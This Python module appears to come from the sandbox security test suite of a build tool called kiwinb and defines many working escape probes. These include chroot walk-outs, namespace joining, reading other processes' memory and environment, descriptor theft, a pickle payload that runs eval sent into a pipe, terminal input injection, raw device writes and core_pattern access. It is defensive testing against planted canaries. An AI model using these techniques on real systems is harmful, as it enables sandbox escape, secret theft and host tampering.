"""The attacks themselves: what runs inside of a step, in the tree or in a host script.

This text is put into a script as it is, so it needs nothing but Python's own library. Each attack
is a function; it does something that only the absence of a protection allows, and does no harm
where it succeeds: it reads secrets that were laid out for it, changes files that belong to the
suite, or opens something and closes it again. It returns what it found, and raises ``OSError``
where it is stopped. What counts is not what it says but what happened outside: see ``witness.py``.
"""

from __future__ import annotations

import ctypes
import errno
import fcntl
import os
import pickle
import platform
import signal
import socket
import stat
import struct
import time
from collections.abc import Callable, Iterator
from contextlib import suppress

Facts = dict[str, object]
Attack = Callable[[], object]

ATTACKS: dict[str, Attack] = {}
"""The attacks by name, in the order in which they run."""

FACTS: Facts = {}
"""Where the canaries are; whoever starts the attacks sets it."""

SEEN = signal.SIGUSR1
"""The signal with which the witness says that it has seen what an attack holds."""

_SECONDS = 30
_WAIT_SECONDS = 15
_ARM = platform.machine() == "aarch64"
_LIBC = ctypes.CDLL(None, use_errno=True)

CLONE_NEWNS, CLONE_NEWUSER = 0x20000, 0x10000000
MS_RDONLY, MS_REMOUNT, MS_BIND, MS_REC, MS_PRIVATE = 1, 32, 4096, 16384, 1 << 18
MNT_DETACH = 2


def attack(function: Attack) -> Attack:
    ATTACKS[function.__name__.replace("_", "-")] = function
    return function


# ---- tools of the attacks ----------------------------------------------------------------


def fact(name: str) -> str:
    return str(FACTS[name])


def number(name: str) -> int:
    return int(str(FACTS[name]))


def me() -> str:
    return str(FACTS["me"])


def libc(name: str, *arguments: object) -> int:
    return _checked(getattr(_LIBC, name)(*arguments))


def syscall(x86: int, arm: int, *arguments: object) -> int:
    values = [ctypes.c_long(item) if isinstance(item, int) else item for item in arguments]
    return _checked(_LIBC.syscall(ctypes.c_long(arm if _ARM else x86), *values))


def _checked(result: int) -> int:
    if result == -1:
        code = ctypes.get_errno()
        raise OSError(code, os.strerror(code))
    return result


def mount(
    source: str, target: str, kind: str | None = None, flags: int = 0, data: str = ""
) -> None:
    what = kind.encode() if kind else None
    libc("mount", source.encode(), target.encode(), what, ctypes.c_ulong(flags), data.encode())


def private_mounts() -> None:
    """Later mounts are this attack's own, so that the next one starts from the same state."""
    libc("unshare", CLONE_NEWNS)


def wait_until_seen() -> None:
    """Keep what the attack got until the witness has seen it; the name tells the witness."""
    signal.pthread_sigmask(signal.SIG_BLOCK, [SEEN])
    with open("/proc/self/comm") as file:
        name = file.read().strip()
    _name(name + "h")
    signal.sigtimedwait([SEEN], _WAIT_SECONDS)
    _name(name)


def hold(*descriptors: int) -> str:
    wait_until_seen()
    for descriptor in descriptors:
        os.close(descriptor)
    return "held"


def hold_open(path: str, flags: int = os.O_WRONLY) -> str:
    """Open a file and write nothing to it: that it could be opened is seen from outside."""
    return hold(os.open(path, flags | os.O_NOCTTY | os.O_NONBLOCK))


def scratch(name: str) -> str:
    """A new name in the tree."""
    place = "/tmp" if os.path.isdir("/tmp") else "/"
    return f"{place}/attack-{os.getpid()}-{name}"


def others() -> Iterator[int]:
    """Processes that do not belong to the attacks."""
    for name in os.listdir("/proc"):
        if name.isdecimal():
            with suppress(OSError), open(f"/proc/{name}/comm") as file:
                if not file.read().startswith("atk"):
                    yield int(name)


def builders() -> Iterator[int]:
    """Processes of the build, such as kiwinb's: never those of anybody else on the host."""
    for pid in others():
        with suppress(OSError), open(f"/proc/{pid}/environ", "rb") as file:
            if fact("mark").encode() in file.read():
                yield pid


def first(attempts: Iterator[object]) -> object:
    """What the first successful attempt finds; the last error if none is successful."""
    for found in attempts:
        if found:
            return found
    raise OSError(errno.EPERM, "nothing found")


def read(path: str) -> str:
    with open(path, "rb") as file:
        return file.read(65536).decode("utf-8", "replace")


def overwrite(path: str) -> str:
    """Change a canary; the file exists."""
    with open(path, "r+") as file:
        file.write(me())
    return "written"


def own_canary() -> str:
    return f"{fact('canaries')}/{me()}"


def trying(do: Callable[..., object], *arguments: object) -> object:
    with suppress(OSError):
        return do(*arguments)
    return None


def walk_out() -> None:
    """Leave a root directory that was set by chroot."""
    below = scratch("below")
    os.mkdir(below)
    here = os.open("/", os.O_RDONLY)
    os.chroot(below)
    os.fchdir(here)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")


def make_writable(path: str) -> None:
    """Remount what a path is on, if it is read-only."""
    while path not in ("", "/"):
        trying(mount, "none", path, None, MS_REMOUNT | MS_BIND)
        path = os.path.dirname(path)
    trying(mount, "none", "/", None, MS_REMOUNT | MS_BIND)


# ---- the host's files --------------------------------------------------------------------


@attack
def root_of_process_read() -> object:
    return first(trying(read, f"/proc/{pid}/root{fact('secret')}") for pid in others())


@attack
def root_of_process_write() -> object:
    return first(trying(overwrite, f"/proc/{pid}/root{own_canary()}") for pid in others())


@attack
def cwd_of_process_read() -> object:
    up = "../" * 30
    return first(trying(read, f"/proc/{pid}/cwd/{up}{fact('secret')}") for pid in others())


@attack
def secret_in_etc() -> object:
    return first(trying(read, f"/proc/{pid}/root{fact('etc')}") for pid in others())


@attack
def secret_in_etc_plainly() -> object:
    return read(fact("etc"))


@attack
def plain_path_read() -> object:
    return read(fact("secret"))


@attack
def plain_path_write() -> object:
    return overwrite(own_canary())


@attack
def chroot_walk_read() -> object:
    walk_out()
    return read(fact("secret"))


@attack
def chroot_walk_write() -> object:
    walk_out()
    return overwrite(own_canary())


@attack
def chroot_walk_remount() -> object:
    walk_out()
    private_mounts()
    make_writable(own_canary())
    return overwrite(own_canary())


@attack
def chroot_walk_bind() -> object:
    """A new bind mount of a read-only directory, made writable."""
    walk_out()
    private_mounts()
    mount(fact("canaries"), fact("canaries"), None, MS_BIND)
    mount("none", fact("canaries"), None, MS_REMOUNT | MS_BIND)
    return overwrite(own_canary())


@attack
def host_mounts_below_proc() -> object:
    """The ``/proc`` of the host is below that of the step: its processes are the host's."""
    walk_out()
    private_mounts()
    libc("umount2", b"/proc", MNT_DETACH)

    def enter(pid: int) -> object:
        libc("setns", os.open(f"/proc/{pid}/ns/mnt", os.O_RDONLY), CLONE_NEWNS)
        return overwrite(own_canary())

    return first(trying(enter, pid) for pid in others())


@attack
def join_mount_namespace() -> object:
    def enter(pid: int) -> object:
        libc("setns", os.open(f"/proc/{pid}/ns/mnt", os.O_RDONLY), CLONE_NEWNS)
        return read(fact("secret"))

    return first(trying(enter, pid) for pid in others())


@attack
def join_mount_namespace_write() -> object:
    def enter(pid: int) -> object:
        libc("setns", os.open(f"/proc/{pid}/ns/mnt", os.O_RDONLY), CLONE_NEWNS)
        private_mounts()
        make_writable(own_canary())
        return overwrite(own_canary())

    return first(trying(enter, pid) for pid in others())


@attack
def join_user_namespace() -> object:
    def enter(pid: int) -> object:
        libc("setns", os.open(f"/proc/{pid}/ns/user", os.O_RDONLY), CLONE_NEWUSER)
        libc("setns", os.open(f"/proc/{pid}/ns/mnt", os.O_RDONLY), CLONE_NEWNS)
        return read(fact("secret"))

    return first(trying(enter, pid) for pid in others())


def _mount_points() -> Iterator[str]:
    with open("/proc/self/mountinfo") as file:
        for line in file:
            yield line.split()[4]


@attack
def file_handle() -> object:
    """A handle of the root directory of a file system opens it, whatever part is mounted."""

    class Handle(ctypes.Structure):
        _fields_ = [("size", ctypes.c_uint), ("type", ctypes.c_int), ("data", ctypes.c_ubyte * 8)]

    def through(place: str) -> object:
        where = os.open(place, os.O_RDONLY | os.O_NONBLOCK)
        handle = Handle(8, 1, (ctypes.c_ubyte * 8)(*struct.pack("=II", 2, 0)))
        top = libc("open_by_handle_at", where, ctypes.byref(handle), os.O_DIRECTORY)
        found = os.open(fact("secret").lstrip("/"), os.O_RDONLY, dir_fd=top)
        return os.read(found, 4096).decode()

    return first(trying(through, place) for place in _mount_points())


@attack
def open_tree() -> object:
    """The newer calls for mounts: a copy of the mount of the host's root directory."""
    where = libc("open", f"/proc/1/root{fact('canaries')}".encode(), os.O_PATH)
    copy = syscall(428, 428, where, b"", 0x1 | 0x1000)
    change = struct.pack("=QQQQ", 0, 1, 0, 0)
    syscall(442, 442, copy, b"", 0x1000, change, len(change))
    file = os.open(me(), os.O_WRONLY, dir_fd=copy)
    os.write(file, me().encode())
    return "written"


# ---- the store, the cache, kiwinb's own files --------------------------------------------


def _names(directory: str) -> list[str]:
    try:
        return os.listdir(directory)
    except OSError:
        return []


def _plant(directory: str) -> str:
    with open(f"{directory}/attack-{me()}", "w") as file:
        file.write(me())
    return "written"


@attack
def store_write() -> object:
    return first(trying(_plant, f"/proc/{pid}/root{fact('store')}") for pid in others())


@attack
def store_write_walking() -> object:
    walk_out()
    return _plant(fact("store"))


@attack
def checkpoint_write() -> object:
    """Another step's result."""

    def through(pid: int) -> object:
        objects = f"/proc/{pid}/root{fact('store')}/objects"
        return _plant(f"{objects}/{os.listdir(objects)[0]}")

    return first(trying(through, pid) for pid in others())


@attack
def pool_write() -> object:
    return first(trying(_plant, f"/proc/{pid}/root{fact('cache')}") for pid in others())


@attack
def credentials_read() -> object:
    """What apt reads passwords of repositories from is in the cache while apt runs."""
    return first(trying(read, f"/proc/{pid}/root{fact('credentials')}") for pid in others())


@attack
def packages_in_tree() -> object:
    """The ``.deb`` files that are lent to the tree are hard links of those in the pool."""
    found = [
        f"{place}/{name}"
        for place in _mount_points()
        if place != "/" and os.path.isdir(place)
        for name in _names(place)
        if name.startswith("kiwinb-attack")
    ]
    if not found:
        raise OSError(errno.ENOENT, "no packages")
    with open(found[0], "ab") as file:
        file.write(b" ")
    return "written"


# ---- processes ---------------------------------------------------------------------------


@attack
def environment_of_process() -> object:
    return first(trying(read, f"/proc/{pid}/environ") for pid in builders())


@attack
def own_environment() -> object:
    return read("/proc/self/environ")


@attack
def command_line_of_process() -> object:
    def secret(pid: int) -> object:
        text = read(f"/proc/{pid}/cmdline")
        return text if "kiwinb-argument" in text else None

    return first(trying(secret, pid) for pid in others())


def _stack(pid: int) -> tuple[int, int]:
    with open(f"/proc/{pid}/maps") as file:
        for line in file:
            if line.rstrip().endswith("[stack]"):
                low, _, high = line.split()[0].partition("-")
                return int(low, 16), int(high, 16)
    raise OSError(errno.ENOENT, "no stack")


def _secret_in(data: bytes) -> object:
    at = data.find(b"KIWINB_ATTACK_SECRET=")
    return data[at : at + 80] if at >= 0 else None


@attack
def memory_of_process() -> object:
    def search(pid: int) -> object:
        low, high = _stack(pid)
        with open(f"/proc/{pid}/mem", "rb") as file:
            file.seek(low)
            return _secret_in(file.read(high - low))

    return first(trying(search, pid) for pid in others())


@attack
def read_process_by_call() -> object:
    def search(pid: int) -> object:
        low, high = _stack(pid)
        buffer = ctypes.create_string_buffer(high - low)
        local = (ctypes.c_void_p * 2)(ctypes.addressof(buffer), high - low)
        remote = (ctypes.c_void_p * 2)(low, high - low)
        size = ctypes.c_ulong
        libc("process_vm_readv", pid, local, size(1), remote, size(1), size(0))
        return _secret_in(buffer.raw)

    return first(trying(search, pid) for pid in builders())


@attack
def trace_process() -> object:
    def trace(pid: int) -> object:
        libc("ptrace", 0x4206, pid, None, None)  # PTRACE_SEIZE does not stop it
        return hold()

    return first(trying(trace, pid) for pid in builders())


@attack
def stop_process() -> object:
    def stop(pid: int) -> object:
        os.kill(pid, signal.SIGSTOP)
        hold()
        os.kill(pid, signal.SIGCONT)
        return "stopped"

    return first(trying(stop, pid) for pid in builders() if pid != 1)


@attack
def steal_descriptor() -> object:
    def steal(pid: int) -> object:
        process = os.pidfd_open(pid)
        return hold(syscall(438, 438, process, 3, 0))

    return first(trying(steal, pid) for pid in builders())


class _Frame:
    """A value whose unpickling changes a canary, and yields an event that is harmless."""

    def __reduce__(self) -> tuple[object, ...]:
        text = f"(open({own_canary()!r}, 'w').write({me()!r}), ('log', ''))[1]"
        return eval, (text,)


def _pipes_of_builders() -> Iterator[str]:
    own = {os.stat(f"/proc/self/fd/{item}").st_ino for item in (0, 1, 2)}
    for pid in builders():
        with suppress(OSError):
            for name in os.listdir(f"/proc/{pid}/fd"):
                path = f"/proc/{pid}/fd/{name}"
                with suppress(OSError):
                    about = os.stat(path)
                    if stat.S_ISFIFO(about.st_mode) and about.st_ino not in own:
                        flags = read(f"/proc/{pid}/fdinfo/{name}").split("flags:")[1].split()[0]
                        if int(flags, 8) & 3 == os.O_WRONLY:
                            yield path


@attack
def pickle_into_events() -> object:
    data = pickle.dumps(_Frame())

    def write(path: str) -> object:
        pipe = os.open(path, os.O_WRONLY | os.O_NONBLOCK)
        os.write(pipe, struct.pack("=Q", len(data)) + data)
        return hold(pipe)

    return first(trying(write, path) for path in _pipes_of_builders())


@attack
def inherited_descriptors() -> object:
    """Descriptors above the standard ones, other than the list itself."""
    found = [
        f"{item} {os.readlink(f'/proc/self/fd/{item}')}"
        for item in FACTS["descriptors"]  # type: ignore[attr-defined]
        if os.path.lexists(f"/proc/self/fd/{item}")
    ]
    return first(iter([" ".join(found)]))


@attack
def realtime() -> object:
    os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(1))
    wait_until_seen()
    os.sched_setscheduler(0, os.SCHED_OTHER, os.sched_param(0))
    return "held"


@attack
def high_priority() -> object:
    os.setpriority(os.PRIO_PROCESS, 0, -20)
    return hold()


@attack
def spared_by_oom_killer() -> object:
    with open("/proc/self/oom_score_adj", "w") as file:
        file.write("-900")
    return hold()


@attack
def daemon_left_behind() -> object:
    if os.fork() == 0:
        os.setsid()
        signal.alarm(0)
        for number_ in (0, 1, 2):
            os.close(number_)
        for item in (signal.SIGTERM, signal.SIGHUP):
            signal.signal(item, signal.SIG_IGN)
        time.sleep(3600)
        os._exit(0)
    return "left"


@attack
def nested_user_namespace() -> object:
    """It gives back every capability, and with them much more of the kernel to attack."""
    libc("unshare", CLONE_NEWUSER)
    return hold()


@attack
def nested_user_namespace_by_clone() -> object:
    pid = syscall(56, 220, CLONE_NEWUSER | signal.SIGCHLD, 0, 0, 0, 0)
    if pid == 0:
        wait_until_seen()
        os._exit(0)
    os.waitpid(pid, 0)
    return "made"


@attack
def control_group() -> object:
    """The path of its control group says who runs it on the host."""
    return read("/proc/self/cgroup")


@attack
def control_groups_of_host() -> object:
    """The host sees in which namespace it is, even where the host has no control groups."""
    wait_until_seen()
    return read("/proc/self/cgroup")


@attack
def core_dump() -> object:
    """A dump goes where the host's pattern says, into a program of the host if that is a pipe."""
    import resource

    with suppress(OSError, ValueError):
        limit = resource.getrlimit(resource.RLIMIT_CORE)[1]
        resource.setrlimit(resource.RLIMIT_CORE, (limit, limit))
    os.chdir("/tmp")
    pid = os.fork()
    if pid == 0:
        os.abort()
    if os.WCOREDUMP(os.waitpid(pid, 0)[1]):
        return "dumped"
    raise OSError(errno.EPERM, "no dump")


# ---- the network -------------------------------------------------------------------------


def _tell(kind: int, address: object, form: int = socket.SOCK_STREAM) -> object:
    with socket.socket(kind, form) as item:
        item.settimeout(2)
        item.connect(address)  # type: ignore[arg-type]
        item.sendall(me().encode())
    return "told"


@attack
def loopback_tcp() -> object:
    return _tell(socket.AF_INET, ("127.0.0.1", number("tcp")))


@attack
def loopback_udp() -> object:
    return _tell(socket.AF_INET, ("127.0.0.1", number("udp")), socket.SOCK_DGRAM)


@attack
def loopback_tcp6() -> object:
    return _tell(socket.AF_INET6, ("::1", number("tcp6")))


@attack
def address_of_host() -> object:
    return _tell(socket.AF_INET, (fact("address"), number("outside")))


@attack
def abstract_socket() -> object:
    return _tell(socket.AF_UNIX, "\0" + fact("abstract"))


@attack
def path_socket() -> object:
    return _tell(socket.AF_UNIX, fact("socket"))


@attack
def path_socket_through_proc() -> object:
    return first(
        trying(_tell, socket.AF_UNIX, f"/proc/{pid}/root{fact('socket')}") for pid in others()
    )


@attack
def path_socket_walking() -> object:
    walk_out()
    return _tell(socket.AF_UNIX, fact("socket"))


@attack
def join_network_namespace() -> object:
    def enter(pid: int) -> object:
        libc("setns", os.open(f"/proc/{pid}/ns/net", os.O_RDONLY), 0x40000000)
        return _tell(socket.AF_INET, ("127.0.0.1", number("tcp")))

    return first(trying(enter, pid) for pid in others())


@attack
def listen_on_host() -> object:
    with socket.socket() as item:
        item.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        item.bind(("127.0.0.1", number("free")))
        item.listen()
        return hold()


@attack
def raw_socket() -> object:
    text = me().encode()
    packet = struct.pack("!HHHH", 9, number("udp"), 8 + len(text), 0) + text
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP) as item:
        item.sendto(packet, ("127.0.0.1", 0))
    return "sent"


@attack
def packet_socket() -> object:
    """Listen to what others send on the loopback device."""
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)) as item:
        item.bind(("lo", 0))
        item.settimeout(1)
        until = time.monotonic() + 1
        while time.monotonic() < until:
            data = item.recv(65536)
            if b"kiwinb-sniffed:" in data:
                return data[data.index(b"kiwinb-sniffed:") :]
    raise OSError(errno.EPERM, "nothing heard")


def _netlink_address(kind: int, flags: int) -> bytes:
    local = socket.inet_aton(fact("added"))
    index = socket.if_nametoindex("lo")
    body = struct.pack("=BBBBi", socket.AF_INET, 32, 0, 254, index)
    body += b"".join(struct.pack("=HH", 8, item) + local for item in (1, 2))
    return struct.pack("=IHHII", 16 + len(body), kind, flags, 1, 0) + body


@attack
def change_network() -> object:
    """Add an address to the loopback device, and remove it."""
    with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as item:
        item.bind((0, 0))
        item.send(_netlink_address(20, 0x605))
        answer = item.recv(4096)
        (code,) = struct.unpack("=i", answer[16:20])
        if code:
            raise OSError(-code, os.strerror(-code))
        wait_until_seen()
        item.send(_netlink_address(21, 0x5))
    return "added"


@attack
def network_of_its_own() -> object:
    """The same where the network is its own: it gives access to much code of the kernel."""
    return change_network()


@attack
def raw_socket_of_its_own() -> object:
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP):
        wait_until_seen()
    return "held"


@attack
def machine_socket() -> object:
    """A socket to the hypervisor; it is not connected."""
    socket.socket(40, socket.SOCK_STREAM).close()
    return "opened"


@attack
def rare_sockets() -> object:
    """Families with much code in the kernel that no script needs."""
    opened = []
    for family, form, protocol in ((21, 5, 0), (30, 5, 0), (29, 3, 1), (15, 3, 2)):
        with suppress(OSError):
            socket.socket(family, form, protocol).close()
            opened.append(str(family))
    return first(iter([" ".join(opened)]))


# ---- mounts ------------------------------------------------------------------------------


def _mounted(kind: str, source: str = "none", data: str = "") -> str:
    private_mounts()
    place = scratch("mounted")
    os.mkdir(place)
    mount(source, place, kind, 0, data)
    return place


@attack
def mount_proc() -> object:
    return hold_open(f"{_mounted('proc')}/sys/kernel/core_pattern")


@attack
def mount_sysfs() -> object:
    return hold_open(f"{_mounted('sysfs')}/kernel/rcu_expedited")


@attack
def mount_cgroups() -> object:
    place = trying(_mounted, "cgroup2") or trying(_mounted, "cgroup", "none", "pids")
    if not place:
        raise OSError(errno.EPERM, "no cgroups")
    return hold_open(f"{place}/cgroup.procs")


@attack
def mount_debugfs() -> object:
    return os.listdir(_mounted("debugfs"))[0]


@attack
def mount_devices() -> object:
    place = _mounted("devtmpfs")
    with open(f"{place}/{fact('loop')}", "rb") as file:
        return file.read(4096)


@attack
def mount_binfmt() -> object:
    return hold_open(f"{_mounted('binfmt_misc')}/register")


@attack
def mount_block_device() -> object:
    place = scratch("node")
    os.mknod(place, stat.S_IFBLK | 0o600, os.makedev(number("major"), number("minor")))
    private_mounts()
    below = scratch("disk")
    os.mkdir(below)
    mount(place, below, "ext4", MS_RDONLY)
    return read(f"{below}/secret")


@attack
def mount_over_kiwinb() -> object:
    """A mount that kiwinb's own process sees, and would write into."""
    place = scratch("over")
    os.mkdir(place)
    mount(me(), place, "tmpfs")
    wait_until_seen()
    libc("umount2", place.encode(), MNT_DETACH)
    os.rmdir(place)
    return "seen"


@attack
def remount_sys() -> object:
    private_mounts()
    mount("none", "/sys", None, MS_REMOUNT | MS_BIND)
    return hold_open("/sys/kernel/rcu_expedited")


@attack
def remount_proc_sys() -> object:
    private_mounts()
    mount("none", "/proc/sys", None, MS_REMOUNT | MS_BIND)
    return hold_open("/proc/sys/kernel/core_pattern")


@attack
def uncover_proc_sys() -> object:
    private_mounts()
    libc("umount2", b"/proc/sys", MNT_DETACH)
    return hold_open("/proc/sys/kernel/core_pattern")


@attack
def remount_sysrq() -> object:
    private_mounts()
    mount("none", "/proc/sysrq-trigger", None, MS_REMOUNT | MS_BIND)
    return hold_open("/proc/sysrq-trigger")


@attack
def write_proc_sys() -> object:
    return hold_open("/proc/sys/kernel/core_pattern")


@attack
def write_proc_others() -> object:
    """What of ``/proc`` is about the whole machine."""
    places = ["/proc/irq/default_smp_affinity", "/proc/mtrr", "/proc/sys/vm/drop_caches"]
    return first(trying(hold_open, place) for place in places)


@attack
def write_sys() -> object:
    return hold_open("/sys/kernel/rcu_expedited")


@attack
def disks_in_sys() -> object:
    """What is known of the disks of the host, such as files that are disks."""
    return read(f"/sys/block/{fact('loop')}/loop/backing_file")


@attack
def write_cgroup() -> object:
    places = ["/sys/fs/cgroup/cgroup.procs", "/sys/fs/cgroup/pids/cgroup.procs"]
    places += ["/sys/fs/cgroup/unified/cgroup.procs", "/sys/fs/cgroup/memory/release_agent"]
    return first(trying(hold_open, place) for place in places)


# ---- devices -----------------------------------------------------------------------------


def _node(kind: int, major: int, minor: int) -> str:
    place = scratch("node")
    os.mknod(place, kind | 0o600, os.makedev(major, minor))
    return place


@attack
def block_device_read() -> object:
    with open(_node(stat.S_IFBLK, number("major"), number("minor")), "rb") as file:
        return file.read(4096)


@attack
def block_device_write() -> object:
    with open(_node(stat.S_IFBLK, number("major"), number("minor")), "r+b", buffering=0) as file:
        block = file.read(4096)
        file.seek(0)
        file.write(block.replace(b"untouched", b"harmed!!!"))
        os.fsync(file.fileno())
    return "written"


@attack
def node_of_description() -> object:
    """A device node that an archive of the description brings."""
    with open("/attack/node", "rb") as file:
        return file.read(4096)


@attack
def kernel_messages() -> object:
    """The kernel's log through a device node."""
    device = os.open(_node(stat.S_IFCHR, 1, 11), os.O_RDONLY | os.O_NONBLOCK)
    os.lseek(device, 0, os.SEEK_SET)
    with suppress(BlockingIOError):
        while data := os.read(device, 8192):
            if fact("mark").encode() in data:
                return data
    raise OSError(errno.EPERM, "nothing found")


@attack
def device_fuse() -> object:
    return hold_open(_node(stat.S_IFCHR, 10, 229), os.O_RDWR)


@attack
def device_loop_control() -> object:
    return hold_open(_node(stat.S_IFCHR, 10, 237), os.O_RDWR)


@attack
def device_kvm() -> object:
    return hold_open(_node(stat.S_IFCHR, 10, 232), os.O_RDWR)


@attack
def device_console() -> object:
    return hold_open(_node(stat.S_IFCHR, 5, 1), os.O_RDWR)


@attack
def device_memory() -> object:
    return hold_open(_node(stat.S_IFCHR, 1, 1), os.O_RDONLY)


@attack
def devices_of_dev() -> object:
    """Devices in ``/dev`` that no build needs."""
    names = ("kmsg", "fuse", "loop-control", "kvm", "console", "mem", "vsock", "hwrng", "tty0")
    return first(trying(hold_open, f"/dev/{name}", os.O_RDONLY) for name in names)


def _terminals() -> Iterator[str]:
    yield "/dev/tty"
    yield fact("terminal")
    for pid in others():
        yield f"/proc/{pid}/root{fact('terminal')}"


@attack
def terminal_write() -> object:
    def write(path: str) -> object:
        terminal = os.open(path, os.O_WRONLY | os.O_NOCTTY | os.O_NONBLOCK)
        return os.write(terminal, me().encode())

    return first(trying(write, path) for path in _terminals())


@attack
def terminal_input() -> object:
    """Characters that the user's shell would take for input."""

    def push(path: str) -> object:
        terminal = os.open(path, os.O_RDWR | os.O_NONBLOCK)
        for char in me().encode():
            fcntl.ioctl(terminal, 0x5412, bytes([char]))
        return "pushed"

    return first(trying(push, path) for path in _terminals())


# ---- the kernel --------------------------------------------------------------------------


@attack
def bpf_program() -> object:
    code = struct.pack("=QQ", 0xB7, 0x95)  # r0 = 0; exit
    buffer, text = ctypes.create_string_buffer(code), ctypes.create_string_buffer(b"GPL")
    about = struct.pack("=IIQQ", 1, 2, ctypes.addressof(buffer), ctypes.addressof(text))
    about = about.ljust(120, b"\0")
    return hold(syscall(321, 280, 5, about, len(about)))


@attack
def bpf_map() -> object:
    about = struct.pack("=IIII", 2, 4, 8, 1).ljust(120, b"\0")
    return hold(syscall(321, 280, 0, about, len(about)))


@attack
def performance_events() -> object:
    about = struct.pack("=IIQ", 1, 112, 0).ljust(112, b"\0")
    return hold(syscall(298, 241, about, -1, 0, -1, 0))


@attack
def performance_events_of_itself() -> object:
    about = struct.pack("=IIQ", 1, 112, 0).ljust(40, b"\0") + struct.pack("=Q", 0x60)
    return hold(syscall(298, 241, about.ljust(112, b"\0"), 0, -1, -1, 0))


@attack
def io_uring() -> object:
    return hold(syscall(425, 425, 4, ctypes.create_string_buffer(120)))


@attack
def userfaultfd() -> object:
    return hold(syscall(323, 282, os.O_CLOEXEC))


@attack
def fanotify() -> object:
    return hold(libc("fanotify_init", 4, os.O_RDONLY))


def _key(operation: int, *arguments: object) -> int:
    return syscall(250, 219, operation, *arguments)


@attack
def keyring() -> object:
    """A key in the keyring that the user's session has."""
    rings = (-3, -4, -5)  # of the session, of the user, of the user's sessions

    def search(ring: int) -> object:
        found = _key(10, ring, b"user", fact("key").encode(), 0)
        buffer = ctypes.create_string_buffer(256)
        size = _key(11, found, buffer, 256)
        return buffer.raw[:size]

    return first(trying(search, ring) for ring in rings)


@attack
def set_clock() -> object:
    """Set the length of the clock's tick to what it is."""
    about = bytearray(208)
    buffer = (ctypes.c_ubyte * 208).from_buffer(about)
    libc("adjtimex", buffer)
    struct.pack_into("=I", about, 0, 0x4000)
    libc("adjtimex", buffer)
    return "set"


@attack
def kernel_log() -> object:
    buffer = ctypes.create_string_buffer(1 << 20)
    size = libc("klogctl", 3, buffer, len(buffer))
    text, mark = buffer.raw[:size], fact("mark").encode()
    return text[text.index(mark) :][:200] if mark in text else ""


@attack
def ports() -> object:
    """Access to input and output ports; none is used."""
    if _ARM:
        raise OSError(errno.ENOSYS, "x86 only")
    libc("ioperm", 0x80, 1, 1)
    return "granted"


@attack
def load_module() -> object:
    return _denied(lambda: syscall(175, 105, b"", 0, b""))


@attack
def load_kernel() -> object:
    """With flags that the kernel refuses after it has looked at the capabilities."""
    return _denied(lambda: syscall(246, 104, 0, 0, None, 0xFFFF))


@attack
def reboot() -> object:
    """With a magic number that the kernel refuses after it has looked at the capabilities."""
    return _denied(lambda: syscall(169, 142, 1, 2, 3, None))


@attack
def swap() -> object:
    return _denied(lambda: libc("swapon", b"/no-such-file", 0))


@attack
def host_name() -> object:
    before = socket.gethostname()
    socket.sethostname("kiwinb-attack")
    wait_until_seen()
    socket.sethostname(before)
    return "set"


def _denied(do: Callable[[], object]) -> object:
    """Any answer but a refusal means that the kernel would have done it."""
    try:
        do()
    except OSError as error:
        if error.errno in (errno.EPERM, errno.EACCES, errno.ENOSYS):
            raise
        return os.strerror(error.errno or 0)
    return "done"


@attack
def kernel_memory() -> object:
    return hold_open("/proc/kcore", os.O_RDONLY)


@attack
def kernel_addresses() -> object:
    with open("/proc/kallsyms") as file:
        address = file.readline().split()[0]
    if int(address, 16) == 0:
        raise OSError(errno.EPERM, "hidden")
    return first(iter([address.strip("0")]))


# ---- talking to other processes ----------------------------------------------------------


@attack
def shared_memory() -> object:
    _LIBC.shmat.restype = ctypes.c_void_p
    place = _LIBC.shmat(libc("shmget", number("shm"), 0, 0), None, 0o10000)
    return ctypes.string_at(place, 64)


@attack
def message_queue() -> object:
    queue = ctypes.CDLL("librt.so.1", use_errno=True).mq_open(
        b"/" + fact("queue").encode(), os.O_RDONLY | os.O_NONBLOCK
    )
    if queue < 0:
        raise OSError(ctypes.get_errno(), "no such queue")
    buffer = ctypes.create_string_buffer(8192)
    size = ctypes.CDLL("librt.so.1", use_errno=True).mq_receive(queue, buffer, 8192, None)
    return buffer.raw[: max(0, size)]


@attack
def dev_shm() -> object:
    return read(f"/dev/shm/{fact('posix')}")


# ---- running them ------------------------------------------------------------------------


def process_name(mark: str, place: str, what: object) -> str:
    """The name of a process; it is short, and different for each host of the suite."""
    return f"atk{mark[-4:]}{place}{what}"


def _name(text: str) -> None:
    _LIBC.prctl(15, text.encode(), 0, 0, 0)  # PR_SET_NAME


def _run(index: int, name: str, place: str) -> None:
    """Run one attack in this process, and say what came of it in one line."""
    FACTS["me"] = f"{place}-{name}"
    _name(process_name(fact("mark"), place, index))
    try:
        found = ATTACKS[name]()
        text = found if isinstance(found, bytes) else str(found).encode("utf-8", "replace")
        told = f"reached {text[:4096].hex()}"
    except Exception as error:
        told = f"stopped {type(error).__name__}: {error}".replace("\n", " ")
    os.write(1, f"attack {place} {name} {told}\n".encode())


def main(place: str, names: list[str]) -> None:
    """Run attacks one after another, each in a process of its own with limited time."""
    FACTS["descriptors"] = [
        item for item in range(3, 64) if os.path.lexists(f"/proc/self/fd/{item}")
    ]
    _name(process_name(fact("mark"), place, "main"))
    order = list(ATTACKS)
    for name in names:
        pid = os.fork()
        if pid == 0:
            os.setsid()
            signal.signal(signal.SIGALRM, signal.SIG_DFL)
            signal.alarm(_SECONDS)
            _run(order.index(name), name, place)
            os._exit(0)
        _pid, status = os.waitpid(pid, 0)
        if os.WIFSIGNALED(status):
            os.write(1, f"attack {place} {name} killed {os.WTERMSIG(status)}\n".encode())
